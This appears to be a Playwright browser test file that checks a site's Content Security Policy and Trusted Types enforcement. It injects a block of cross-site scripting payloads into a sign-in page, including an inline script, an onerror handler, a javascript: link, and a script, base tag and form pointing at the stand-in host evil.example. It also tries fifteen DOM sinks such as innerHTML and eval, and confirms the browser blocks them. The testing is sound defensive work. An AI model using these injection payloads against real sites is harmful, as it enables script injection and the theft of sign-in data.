"""The pages' own policy at work: what somebody planted does not run, and is told to us."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Route

from tests.browser.conftest import Rooms

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
PLANTED = """
<script>window.planted = "inline"</script>
<img src="data:," onerror="window.planted = 'attribute'">
<a id="lure" href="javascript:void(window.planted = 'address')">x</a>
<script src="https://evil.example/x.js"></script>
<base href="https://evil.example/"><iframe src="https://evil.example/"></iframe>
<style>body { visibility: hidden }</style><p id="styled" style="color: red">x</p>
<form id="stolen" action="https://evil.example/"><button>x</button></form>
"""
# Each sink that turns text into code or markup, tried by a script that got in all the same.
SINKS = {
    "innerHTML": "document.body.innerHTML = '<b>x</b>'",
    "outerHTML": "document.querySelector('main').outerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write": "document.write('<b>x</b>')",
    "DOMParser": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "setHTMLUnsafe": "document.body.setHTMLUnsafe('<b>x</b>')",
    "createContextualFragment": "document.createRange().createContextualFragment('<b>x</b>')",
    "srcdoc": "document.createElement('iframe').srcdoc = '<b>x</b>'",
    "script text": "document.createElement('script').text = 'window.planted = 1'",
    "script src": "document.createElement('script').src = '/static/anwang/js/keys.js'",
    "event attribute": "document.body.setAttribute('onclick', 'window.planted = 1')",
    "eval": "eval('window.planted = 1')",
    "Function": "new Function('window.planted = 1')",
    "timer": "setTimeout('window.planted = 1')",
    "a policy": "trustedTypes.createPolicy('default', {createHTML: (text) => text})",
}


def planted(page: Page, url: str) -> list[str]:
    """Open `url` with PLANTED in its body; the hosts that were asked, and what the page told us."""
    told: list[str] = []

    def plant(route: Route) -> None:
        answer = route.fetch()
        text = answer.text().replace("</main>", PLANTED + "</main>")
        route.fulfill(response=answer, body=text)

    page.on("request", lambda one: told.append(one.url))
    page.route(url, plant)
    page.goto(url)
    return told


def test_planted_markup_neither_runs_nor_reaches_another_host(rooms: Rooms) -> None:
    watched = rooms.of("")
    page = watched.page()
    asked = planted(page, f"{watched.url}/sign-in/")
    page.click("#lure")
    page.evaluate("document.querySelector('#stolen').requestSubmit()")
    page.wait_for_timeout(300)
    assert page.evaluate("window.planted") is None
    assert page.evaluate("document.baseURI").startswith(watched.url)
    assert page.evaluate("getComputedStyle(document.body).visibility") == "visible"
    assert (
        page.evaluate("getComputedStyle(document.querySelector('#styled')).color")
        != "rgb(255, 0, 0)"
    )
    assert any(one.endswith("/browser/violations/") for one in asked)
    assert page.url.startswith(watched.url)
    page.close()
    watched.faults.clear()


@pytest.mark.parametrize("name", SINKS)
def test_no_text_becomes_code_or_markup(rooms: Rooms, name: str) -> None:
    """A changed file of ours tries a sink: the browser throws, since no Trusted Types policy is allowed."""
    watched = rooms.of("")
    page = watched.page()
    changed = f"try {{ {SINKS[name]}; window.outcome = 'done'; }} catch (e) {{ window.outcome = e.name; }}"
    page.route(
        "**/js/keys.js", lambda route: route.fulfill(body=changed, content_type="text/javascript")
    )
    page.goto(f"{watched.url}/sign-in/")
    page.wait_for_function("window.outcome !== undefined")
    assert page.evaluate("window.outcome") in ("TypeError", "EvalError")
    assert page.evaluate("window.planted") is None
    page.close()
    watched.faults.clear()
